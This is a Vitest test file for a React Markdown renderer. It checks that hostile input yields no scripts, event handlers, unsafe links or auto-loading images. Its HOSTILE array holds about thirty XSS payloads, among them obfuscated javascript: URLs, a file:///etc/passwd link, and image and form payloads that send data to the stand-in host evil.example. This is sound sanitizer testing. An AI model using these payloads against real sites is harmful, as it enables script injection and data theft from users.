import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import { Markdown } from "./markdown";

function html(text: string, live = false): string {
  return renderToStaticMarkup(<Markdown text={text} idPrefix="m1" live={live} />);
}

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<iframe src='https://evil.example'></iframe>",
  "<a href='javascript:alert(1)'>x</a>",
  "<style>*{background:url(https://evil.example)}</style>",
  "<form action='https://evil.example'><input name=password></form>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<object data=https://evil.example></object>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A;avascript&colon;alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](blob:https://evil.example/1)",
  "[x]( javascript:alert(1))",
  "<javascript:alert(1)>",
  "[x][1]\n\n[1]: javascript:alert(1)",
  "![x](javascript:alert(1))",
  "![secret](https://evil.example/?q=secret)",
  "![x][1]\n\n[1]: https://evil.example/pixel.png",
  "[![x](https://evil.example/pixel.png)](https://example.org)",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  '[x](https://example.org "onmouseover=alert(1)")',
  '![" onerror="alert(1)](https://evil.example/x)',
  '```"><script>alert(1)</script>\ncode\n```',
  "`<script>alert(1)</script>`",
  "| <script>alert(1)</script> | b |\n|-|-|\n| <img src=x onerror=alert(1)> | [x](javascript:1) |",
  "[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))",
];

describe("Markdown", () => {
  test.each(HOSTILE)("makes nothing that runs or calls out of %j", (text) => {
    for (const live of [false, true]) {
      const rendered = html(text, live);
      // Attributes of real elements only: escaped text may say anything.
      const tags = rendered.match(/<[^>]+>/g)?.join("\n") ?? "";
      expect(tags).not.toMatch(/<(script|img|iframe|style|form|object|embed|link|meta|base|video|audio)\b/i);
      expect(tags.replace(/"[^"]*"/g, '""')).not.toMatch(/\son\w+=/i);
      expect(tags).not.toMatch(/(href|src|action)="(?!https?:|mailto:|#)/i);
      expect(tags).not.toMatch(/\s(src|srcset|poster|background)=/i);
    }
  });

  test("keeps raw HTML as text that can be read", () => {
    expect(html("a <b>bold</b> word")).toContain("&lt;b&gt;");
  });

  test("opens links elsewhere, without telling where from or vouching for them", () => {
    expect(html("[site](https://example.org/a?b=1)")).toContain(
      '<a href="https://example.org/a?b=1" target="_blank" rel="noopener nofollow">site</a>',
    );
  });

  test("shows an address that is not safe as plain words", () => {
    expect(html("[click me](javascript:alert(1))")).toContain("<span>click me</span>");
    expect(html("[settings](/settings)")).toContain("<span>settings</span>");
  });

  test("shows an image as a link", () => {
    expect(html("![A cat](https://example.org/cat.png)")).toContain(">Image: A cat</a>");
  });

  test("skips no heading level and keeps the written depth for the eye", () => {
    const rendered = html("### First\n\n# Second\n\n###### Third");
    expect(rendered.match(/<h\d data-depth="\d"/g)).toEqual([
      '<h2 data-depth="3"',
      '<h2 data-depth="1"',
      '<h3 data-depth="6"',
    ]);
  });

  test("gives footnotes of two answers different ids", () => {
    expect(html("a[^1]\n\n[^1]: note")).toContain('id="m1-fn-1"');
  });

  test("gives a table and code a way to scroll by keyboard", () => {
    expect(html("| a | b |\n|-|-:|\n| 1 | 2 |")).toMatch(/<figure[^>]*aria-label="Table"[^>]*tabindex="0"/i);
    expect(html("```ts\nconst a = 1;\n```")).toMatch(/<span>ts<\/span>.*Copy code.*<pre tabindex="0">/is);
  });
});
